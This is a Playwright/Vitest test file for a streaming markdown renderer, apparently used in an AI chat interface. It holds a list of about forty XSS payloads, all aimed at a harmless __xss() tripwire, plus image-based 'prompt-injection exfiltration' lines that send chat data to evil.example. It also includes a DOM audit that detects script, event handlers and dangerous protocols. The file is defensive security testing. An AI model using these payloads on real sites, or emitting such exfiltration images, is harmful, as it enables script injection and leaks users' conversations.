import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { buildAndServe, launchChromium, openPage, type Browser, type TestPage } from '../helpers/browser';
import { sampleReply, tokenize } from '../ui/fixtures';
import type { PageDriver, StreamSample } from './page/main';

declare global {
  interface Window {
    __xss?: () => void;
    __xssFired?: number;
  }
}

// Each payload calls the tripwire `__xss()` if any of it ever runs.
const xssPayloads = [
  '<script>__xss()</script>',
  '<img src=x onerror="__xss()">',
  'inline <img src=x onerror=__xss()> html',
  '<svg onload=__xss()><script>__xss()</script></svg>',
  '<iframe src="javascript:__xss()"></iframe>',
  '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>',
  '<a href="javascript:__xss()">html link</a>',
  '<div onmouseover="__xss()" style="position:fixed;inset:0">hover me</div>',
  '<details open ontoggle=__xss()><summary>x</summary></details>',
  '<input autofocus onfocus=__xss()>',
  '<object data="javascript:__xss()"></object><embed src="javascript:__xss()">',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss()>',
  '<form action="javascript:__xss()"><button>go</button></form>',
  '[md link](javascript:__xss())',
  '[md link](JaVaScRiPt:__xss())',
  '[md link](vbscript:__xss())',
  '[md link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoKTwvc2NyaXB0Pg==)',
  '[md link](&#106;avascript:__xss())',
  '[md link](&#x6A;avascript&#x3A;__xss())',
  '[md link](java&#09;script:__xss())',
  '[md link](javascript&colon;__xss())',
  '[md link]( javascript:__xss())',
  '[md link](<javascript:__xss()>)',
  '[md link](javascript://%0a__xss())',
  '[md link](https://example.com "t\\" onmouseover=\\"__xss()")',
  '[<img src=x onerror=__xss()>](https://example.com)',
  '![md image](javascript:__xss())',
  '![md image](x "onerror=__xss()")',
  '![md image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9feHNzKCkiLz4=)',
  '<javascript:__xss()>',
  '<vbscript:__xss()>',
  '[ref link][evil]\n\n[evil]: javascript:__xss()',
  '```html\n<script>__xss()</script>\n```',
  '`<img src=x onerror=__xss()>`',
  '&lt;img src=x onerror=__xss()&gt;',
  '| a | <img src=x onerror=__xss()> |\n|---|---|\n| [x](javascript:__xss()) | ![y](javascript:__xss()) |',
  // Prompt-injection exfiltration: an image that loads by itself sends the URL's data away.
  '![leak](https://evil.example/collect?chat=secret)',
  '![leak](//evil.example/collect?chat=secret)',
  '![leak](/\\evil.example/collect?chat=secret)',
  '![leak][img]\n\n[img]: https://evil.example/collect?chat=secret',
].join('\n\n');

/** Everything in #root that could run script or navigate somewhere dangerous. */
function auditDom(): string[] {
  const problems: string[] = [];
  const root = document.getElementById('root')!;
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'form', 'style', 'math', 'base', 'meta', 'link'].includes(tag)) problems.push(`<${tag}> element`);
    if (tag === 'svg' && !el.classList.contains('ask-icon')) problems.push('<svg> element');
    for (const attr of el.attributes) {
      if (attr.name.startsWith('on')) problems.push(`${attr.name} attribute on <${tag}>`);
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc', 'data'].includes(attr.name)) {
        const protocol = new URL(attr.value, location.href).protocol;
        if (!['http:', 'https:', 'mailto:'].includes(protocol)) problems.push(`${attr.name}="${attr.value}" on <${tag}>`);
      }
      // Images load by themselves: only the page's own origin (the default image policy).
      if (tag === 'img' && attr.name === 'src' && new URL(attr.value, location.href).origin !== location.origin) problems.push(`cross-origin <img src="${attr.value}">`);
    }
  }
  return problems;
}

async function poke(page: Page) {
  // Give handlers every chance to fire: hover, focus and click on everything but links.
  await page.evaluate(() => {
    for (const el of document.querySelectorAll('#root *')) {
      for (const type of ['mouseover', 'mouseenter', 'focus', 'toggle', 'load', 'error']) el.dispatchEvent(new Event(type));
      if (el instanceof HTMLElement && el.tagName !== 'A') el.click();
    }
  });
  await page.waitForTimeout(300);
}

let browser: Browser;
let server: TestPage;

beforeAll(async () => {
  server = await buildAndServe(fileURLToPath(new URL('./page/', import.meta.url)));
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

async function freshPage(): Promise<Page> {
  const page = await openPage(browser.context, server.url);
  await page.waitForFunction(() => 'renderMarkdown' in (window.__ask ?? {}));
  await page.evaluate(() => {
    window.__xss = () => {
      window.__xssFired = (window.__xssFired ?? 0) + 1;
    };
  });
  return page;
}

describe('StreamingMarkdown in Chromium: XSS payloads render inert', () => {
  it('as a finished reply', async () => {
    const page = await freshPage();
    const errors: string[] = [];
    page.on('pageerror', (error) => errors.push(error.message));
    await page.evaluate((md) => (window as unknown as { __ask: PageDriver }).__ask.renderMarkdown(md), xssPayloads);
    await poke(page);
    expect(await page.evaluate(auditDom)).toEqual([]);
    expect(await page.evaluate(() => window.__xssFired ?? 0)).toBe(0);
    // The payloads are visible as text, so the reader sees what the model sent.
    const text = await page.locator('#root').innerText();
    expect(text).toContain('<script>__xss()</script>');
    expect(text).toContain('md link');
    expect(errors).toEqual([]);
    await page.close();
  });

  it('while it streams token by token (every repaired intermediate state)', async () => {
    const page = await freshPage();
    const chunks = tokenize(xssPayloads, 11);
    const problems = await page.evaluate(
      ({ chunks, audit }) => {
        const check = new Function(`return (${audit})()`) as () => string[];
        const found = new Set<string>();
        let text = '';
        for (const chunk of chunks) {
          text += chunk;
          (window as unknown as { __ask: PageDriver }).__ask.renderMarkdown(text, true);
          for (const problem of check()) found.add(problem);
        }
        (window as unknown as { __ask: PageDriver }).__ask.renderMarkdown(text, false);
        return [...found];
      },
      { chunks, audit: auditDom.toString() },
    );
    await poke(page);
    expect(problems).toEqual([]);
    expect(await page.evaluate(auditDom)).toEqual([]);
    expect(await page.evaluate(() => window.__xssFired ?? 0)).toBe(0);
    await page.close();
  });

  it('requests no cross-origin image (however the URL is written) and keeps same-origin ones', async () => {
    const page = await freshPage();
    const requested: string[] = [];
    page.on('request', (request) => requested.push(request.url()));
    await page.route('**/evil.example/**', (route) => route.fulfill({ status: 204 }));
    const markdown = '![ours](/pixel.png) ![a](https://evil.example/a?d=1) ![b](//evil.example/b) ![c](/\\evil.example/c) ![d](HTTPS://EVIL.example/d) ![e](https:evil.example/e)';
    await page.evaluate((md) => window.__ask.renderMarkdown(md), markdown);
    await page.waitForTimeout(300);
    expect(requested.filter((url) => url.includes('evil.example'))).toEqual([]);
    const origin = new URL(server.url).origin;
    expect(await page.$$eval('#root img', (imgs) => imgs.map((img) => (img as HTMLImageElement).src))).toEqual([`${origin}/pixel.png`]);
    const links = await page.$$eval('#root a.ask-md-image-link', (as) => as.map((a) => (a as HTMLAnchorElement).href));
    expect(links).toHaveLength(5);
    expect(links.every((href) => new URL(href).hostname === 'evil.example')).toBe(true);
    await page.close();
  });

  it('keeps safe links working, with target=_blank and rel=noopener noreferrer', async () => {
    const page = await freshPage();
    await page.evaluate(() => window.__ask.renderMarkdown('[docs](https://example.com/docs) [rel](/about) <https://example.org> me@example.com'));
    const links = await page.$$eval('#root a', (as) => as.map((a) => [a.getAttribute('href'), a.getAttribute('target'), a.getAttribute('rel')]));
    expect(links).toEqual([
      ['https://example.com/docs', '_blank', 'noopener noreferrer'],
      ['/about', '_blank', 'noopener noreferrer'],
      ['https://example.org', '_blank', 'noopener noreferrer'],
      ['mailto:me@example.com', '_blank', 'noopener noreferrer'],
    ]);
    await page.close();
  });
});

describe('StreamingMarkdown in Chromium: streaming', () => {
  it('renders incrementally: text grows over time and a code block appears before the stream ends', async () => {
    const page = await freshPage();
    const chunks = tokenize(sampleReply, 5);
    const samples: StreamSample[] = await page.evaluate(({ chunks }) => window.__ask.streamMarkdown(chunks, 4), { chunks });
    const streamingSamples = samples.filter((s) => s.streaming);
    const lengths = streamingSamples.map((s) => s.textLength);
    // Many distinct, growing states while streaming, not one jump at the end.
    expect(new Set(lengths).size).toBeGreaterThan(50);
    expect(lengths.at(-1)!).toBeGreaterThan(lengths[Math.floor(lengths.length / 4)]!);
    const firstCode = samples.findIndex((s) => s.codeBlocks > 0);
    expect(firstCode).toBeGreaterThanOrEqual(0);
    expect(samples[firstCode]!.streaming).toBe(true);
    const last = samples.at(-1)!;
    expect(last.streaming).toBe(false);
    expect(last.textLength).toBeGreaterThan(lengths.at(-1)! * 0.9);
    // The finished reply has every construct (its cross-origin image as a link: the default image policy).
    const counts = await page.evaluate(() =>
      ['h1', 'h2', 'table', 'blockquote', 'ol', 'ul', 'pre', 'img, a.ask-md-image-link', 'hr', 'del', 'input[type=checkbox]'].map((s) => document.querySelectorAll(`#root ${s}`).length),
    );
    expect(counts.every((n) => n > 0)).toBe(true);
    await page.close();
  });
});

describe('styles', () => {
  it('follows prefers-color-scheme, and data-theme overrides it on <html> or any container', async () => {
    const page = await freshPage();
    const bg = (selector: string) => page.evaluate((s) => getComputedStyle(document.querySelector(s)!).getPropertyValue('--ask-bg').trim(), selector);
    await page.evaluate(() => {
      document.getElementById('root')!.innerHTML = '<div id="forced-dark" data-theme="dark"><div id="forced-light" data-theme="light"></div></div>';
    });
    await page.emulateMedia({ colorScheme: 'light' });
    expect(await bg('html')).toBe('#ffffff');
    expect(await bg('#forced-dark')).toBe('#212121');
    expect(await bg('#forced-light')).toBe('#ffffff');
    await page.emulateMedia({ colorScheme: 'dark' });
    expect(await bg('html')).toBe('#212121');
    expect(await bg('#forced-light')).toBe('#ffffff');
    await page.evaluate(() => document.documentElement.setAttribute('data-theme', 'light'));
    expect(await bg('html')).toBe('#ffffff');
    await page.close();
  });
});

describe('accessibility (axe-core)', () => {
  for (const theme of ['light', 'dark'] as const) {
    it(`has no serious or critical violations with every component rendered (${theme})`, async () => {
      const page = await freshPage();
      await page.evaluate(([theme, md]) => window.__ask.renderGallery(theme, md), [theme, sampleReply] as const);
      await page.addScriptTag({ path: fileURLToPath(new URL('../../node_modules/axe-core/axe.min.js', import.meta.url)) });
      const violations = await page.evaluate(async () => {
        const axe = (window as unknown as { axe: { run: (ctx: Document, opts: object) => Promise<{ violations: { id: string; impact: string; nodes: { target: string[] }[] }[] }> } }).axe;
        const result = await axe.run(document, { resultTypes: ['violations'] });
        return result.violations.map((v) => ({ id: v.id, impact: v.impact, nodes: v.nodes.map((n) => n.target.join(' ')).slice(0, 5) }));
      });
      expect(violations.filter((v) => v.impact === 'serious' || v.impact === 'critical')).toEqual([]);
      await page.close();
    });
  }
});
